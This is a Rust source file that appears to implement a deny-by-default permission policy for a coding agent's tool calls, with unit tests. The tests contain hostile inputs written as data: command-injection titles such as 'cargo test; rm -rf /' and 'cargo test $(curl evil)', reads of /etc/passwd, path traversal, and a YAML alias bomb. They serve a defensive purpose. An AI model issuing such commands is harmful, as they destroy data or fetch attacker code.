//! What a coding agent may do when strangers talk to it. Pure: no I/O but the file itself.
//!
//! The first rule that fits decides. Where none fits, and where the file cannot be read, the answer
//! is no.

use agent_client_protocol::v1::schema::ToolKind;
use serde::Deserialize;
use std::{fmt, path::Path};

const MAX_FILE_BYTES: usize = 256 << 10;

/// A policy file.
#[derive(Debug, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Policy {
    #[serde(default)]
    rules: Vec<Rule>,
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct Rule {
    decision: Decision,
    /// Which kinds of tools; every kind when left out.
    #[serde(default)]
    kinds: Vec<Kind>,
    /// What the call's title looks like; `*` stands for any text without shell operators.
    #[serde(default)]
    title: Option<String>,
    /// Where all files of the call must be; `*` stands for any text.
    #[serde(default)]
    path: Option<String>,
}

/// What becomes of a call.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Decision {
    /// This once.
    Allow,
    /// No.
    Deny,
    /// As the agent's owner says, who is asked in the room.
    Ask,
}

impl fmt::Display for Decision {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Self::Allow => "allowed",
            Self::Deny => "denied",
            Self::Ask => "asked for",
        })
    }
}

/// The kinds of tools, in the protocol's words.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize)]
#[serde(rename_all = "snake_case")]
enum Kind {
    Read,
    Edit,
    Delete,
    Move,
    Search,
    Execute,
    Think,
    Fetch,
    SwitchMode,
    Other,
}

impl From<ToolKind> for Kind {
    fn from(kind: ToolKind) -> Self {
        match kind {
            ToolKind::Read => Self::Read,
            ToolKind::Edit => Self::Edit,
            ToolKind::Delete => Self::Delete,
            ToolKind::Move => Self::Move,
            ToolKind::Search => Self::Search,
            ToolKind::Execute => Self::Execute,
            ToolKind::Think => Self::Think,
            ToolKind::Fetch => Self::Fetch,
            ToolKind::SwitchMode => Self::SwitchMode,
            _ => Self::Other,
        }
    }
}

/// What an agent wants to do, in its own words.
#[derive(Debug, Clone, Default)]
pub struct ToolCall {
    /// The kind of tool.
    pub kind: ToolKind,
    /// For example a command line.
    pub title: String,
    /// The files it touches.
    pub paths: Vec<String>,
}

impl Policy {
    /// Reads a file; the error says what to change.
    pub fn load(path: &Path) -> Result<Self, String> {
        let text = std::fs::read_to_string(path).map_err(|error| error.to_string())?;
        Self::parse(&text)
    }

    /// Reads a text.
    pub fn parse(text: &str) -> Result<Self, String> {
        if text.len() > MAX_FILE_BYTES {
            return Err(format!("it has more than {MAX_FILE_BYTES} bytes"));
        }
        let options = serde_saphyr::options! {
            budget: serde_saphyr::budget! {
                max_depth: 16, max_nodes: 10_000, max_events: 50_000,
                max_aliases: 10, max_anchors: 10, max_documents: 1,
            },
        };
        serde_saphyr::from_str_with_options(text, options).map_err(|error| error.to_string())
    }

    /// Whether the agent may do it.
    pub fn decide(&self, call: &ToolCall) -> Decision {
        let fitting = self.rules.iter().find(|rule| rule.fits(call));
        fitting.map_or(Decision::Deny, |rule| rule.decision)
    }
}

impl Rule {
    fn fits(&self, call: &ToolCall) -> bool {
        let kind = self.kinds.is_empty() || self.kinds.contains(&call.kind.into());
        let title = |pattern: &String| matches(pattern, &call.title, is_plain);
        let path = |pattern: &String| {
            !call.paths.is_empty() && call.paths.iter().all(|path| is_inside(pattern, path))
        };
        kind && self.title.as_ref().is_none_or(title) && self.path.as_ref().is_none_or(path)
    }
}

fn is_inside(pattern: &str, path: &str) -> bool {
    let climbs = path.split('/').any(|part| part == "..");
    path.starts_with('/') && !climbs && matches(pattern, path, |_| true)
}

/// Whether a shell takes the character as part of the words it is in. `cargo test*` must not allow
/// `cargo test; rm -rf /`.
fn is_plain(c: char) -> bool {
    !c.is_control() && !";|&<>$`(){}\\".contains(c)
}

/// Whether `text` looks like `pattern`, in which `*` stands for any characters that `is_any`
/// allows. Takes time in proportion to both lengths, whatever they hold.
fn matches(pattern: &str, text: &str, is_any: impl Fn(char) -> bool) -> bool {
    let mut reachable: Vec<bool> = vec![false; pattern.chars().count() + 1];
    let pattern: Vec<char> = pattern.chars().collect();
    reachable[0] = true;
    skip_stars(&pattern, &mut reachable);
    for c in text.chars() {
        let mut next = vec![false; reachable.len()];
        for (at, wanted) in pattern.iter().enumerate().filter(|(at, _)| reachable[*at]) {
            match wanted {
                '*' => next[at] |= is_any(c),
                wanted => next[at + 1] |= *wanted == c,
            }
        }
        skip_stars(&pattern, &mut next);
        reachable = next;
    }
    reachable[pattern.len()]
}

/// A star may stand for nothing.
fn skip_stars(pattern: &[char], reachable: &mut [bool]) {
    for (at, c) in pattern.iter().enumerate() {
        if *c == '*' && reachable[at] {
            reachable[at + 1] = true;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn call(kind: ToolKind, title: &str, paths: &[&str]) -> ToolCall {
        ToolCall {
            kind,
            title: title.into(),
            paths: paths.iter().map(|path| path.to_string()).collect(),
        }
    }

    const FILE: &str = "
rules:
  - { decision: deny, path: '*/.env' }
  - { decision: allow, kinds: [read, search], path: '/srv/project/*' }
  - { decision: allow, kinds: [execute], title: 'cargo test*' }
";

    #[test]
    fn the_first_rule_that_fits_decides_and_none_means_no() {
        let policy = Policy::parse(FILE).unwrap();
        let (read, run) = (ToolKind::Read, ToolKind::Execute);
        for (call, decision) in [
            (call(read, "", &["/srv/project/a.rs"]), Decision::Allow),
            (call(read, "", &["/srv/project/.env"]), Decision::Deny),
            (
                call(read, "", &["/srv/project/a", "/etc/passwd"]),
                Decision::Deny,
            ),
            (
                call(read, "", &["/srv/project/../../etc/passwd"]),
                Decision::Deny,
            ),
            (call(read, "", &["srv/project/a"]), Decision::Deny),
            (call(read, "", &[]), Decision::Deny),
            (
                call(ToolKind::Edit, "", &["/srv/project/a.rs"]),
                Decision::Deny,
            ),
            (call(run, "cargo test -p x", &[]), Decision::Allow),
            (call(run, "cargo test; rm -rf /", &[]), Decision::Deny),
            (call(run, "cargo test $(curl evil)", &[]), Decision::Deny),
            (call(run, "cargo test\nrm x", &[]), Decision::Deny),
            (call(run, "rm -rf /", &[]), Decision::Deny),
            (call(ToolKind::Other, "cargo test", &[]), Decision::Deny),
        ] {
            assert_eq!(policy.decide(&call), decision, "{call:?}");
        }
        assert_eq!(
            Policy::default().decide(&call(read, "", &["/x"])),
            Decision::Deny
        );
    }

    #[test]
    fn a_rule_may_leave_it_to_the_owner() {
        let policy = Policy::parse("rules: [{decision: ask, kinds: [edit]}]").unwrap();
        let edit = call(ToolKind::Edit, "", &["/srv/a"]);
        assert_eq!(policy.decide(&edit), Decision::Ask);
        let run = call(ToolKind::Execute, "rm", &[]);
        assert_eq!(policy.decide(&run), Decision::Deny);
    }

    #[test]
    fn a_file_that_cannot_be_read_is_an_error_and_not_a_yes() {
        let bomb = "a: &a [x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a]\nrules: [*b,*b,*b,*b]";
        let deep = format!("rules: {}", "[".repeat(10_000));
        for text in [
            "rules: [{decision: maybe}]",
            "rules: [{kinds: [read]}]",
            "rules: [{decision: allow, kind: read}]",
            "allow_all: true",
            "rules: {",
            bomb,
            &deep,
            &"x".repeat(MAX_FILE_BYTES + 1),
        ] {
            assert!(
                Policy::parse(text).is_err(),
                "{}",
                &text[..text.len().min(60)]
            );
        }
    }

    #[test]
    fn a_hostile_pattern_takes_no_time() {
        let (pattern, text) = ("*a".repeat(500), "a".repeat(4000) + "b");
        assert!(!matches(&pattern, &text, |_| true));
        assert!(matches("*", "", |_| true) && matches("a*c", "abbc", |_| true));
    }
}
